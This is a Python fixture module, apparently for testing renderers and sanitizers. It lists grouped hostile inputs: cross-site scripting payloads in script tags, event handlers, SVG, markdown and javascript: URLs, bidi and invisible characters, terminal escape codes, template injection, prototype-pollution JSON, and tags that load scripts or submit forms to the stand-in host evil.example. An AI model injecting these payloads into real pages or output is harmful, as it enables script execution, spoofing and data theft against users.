"""What an agent, a tool, a file or a stranger may say to harm its readers, made of families."""

EVIL = "https://evil.example"

SCRIPTS = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
]
HANDLERS = [
    f"<{tag} {attributes}=alert(1)>"
    for tag, attributes in (
        ("img", "src=x onerror"),
        ("body", "onload"),
        ("details", "open ontoggle"),
        ("input", "autofocus onfocus"),
        ("video", "src=x onerror"),
        ("audio", "src=x onerror"),
        ("marquee", "onstart"),
        ("select", "autofocus onfocus"),
        ("iframe", "onload"),
        ("div", "style='animation:spin 1s' onanimationstart"),
        ("button", "popovertarget=p onbeforetoggle"),
        ("a", "href=# onpointerrawupdate"),
    )
]
DRAWINGS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
]
ADDRESSES = [
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src='{EVIL}/x.swf'>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input name=a></form>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preconnect href={EVIL}>",
]
MARKDOWN = [
    f"![x]({EVIL}/x.png)",
    "[x](javascript:alert(1))",
    f"[x]: {EVIL} 'title'",
    f"<{EVIL}>",
    "```html <script>alert(1)</script>```",
    "| a | <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    f"[![x]({EVIL}/y.png)]({EVIL})",
]
MARKS = [
    f"left {mark}gnp.exe{mark} right"
    for mark in ("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c")
]
INVISIBLE = [
    f"ad{mark}min"
    for mark in ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u2028")
]
CONTROLS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[Hcleared",
    "bell\x07 back\x08 tab\t nul\x00 del\x7f",
    "a\x9b31mb",
]
LETTERS = [
    "\U0001f469\u200d\U0001f4bb \u0301\u0301\u0301",
    "Z" + "\u0300\u0316\u0334" * 60 + "algo",
    "\\ud800 \\udfff \\u0000 \\x3cscript\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufdfa \U0001f3f4\U000e0067\U000e0062\U000e007f \ufffd \U0010fffd",
]
COMMENTS = [
    "<!-- <script>alert(1)</script> -->",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]>x",
]
STYLES = [
    "<style>*{display:none}</style>",
    f"<style>@import '{EVIL}/x.css'</style>",
    f"<p style='background:url({EVIL}/x.png)'>x</p>",
    "</style><script>alert(1)</script>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>",
]
TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{% raw %}{{7*7}}{% endraw %}",
    "`${alert(1)}`",
    "{dangerouslySetInnerHTML: {__html: '<img src=x onerror=alert(1)>'}}",
]
NAMES = ["__proto__", "constructor", "hasOwnProperty", "toString", "valueOf"]
DATA = [
    '{"__proto__": {"isAdmin": true}}',
    '{"a": "{\\"b\\": \\"{\\\\\\"c\\\\\\": 1}\\"}"}',
    '{"type": "img", "props": {"src": "x", "onError": "alert(1)"}, "$$typeof": "react.element"}',
    "[" * 200 + "]" * 200,
    "<div>" * 200 + "deep" + "</div>" * 200,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "x" * 3_000,
]
PLAIN = [
    *SCRIPTS,
    *HANDLERS,
    *DRAWINGS,
    *ADDRESSES,
    *MARKDOWN,
    *MARKS,
    *INVISIBLE,
    *CONTROLS,
    *LETTERS,
    *COMMENTS,
    *STYLES,
    *TEMPLATES,
    *NAMES,
    *DATA,
]
# What may stand around them to break out of an attribute, an element or a section.
AROUND = (("", ""), ('"', '"'), ("'>", "<'"), ("</bdi></div>", "<div>"), ("]]>", "<!--"))

HOSTILE = [f"{before}{line}{after}" for before, after in AROUND for line in PLAIN]
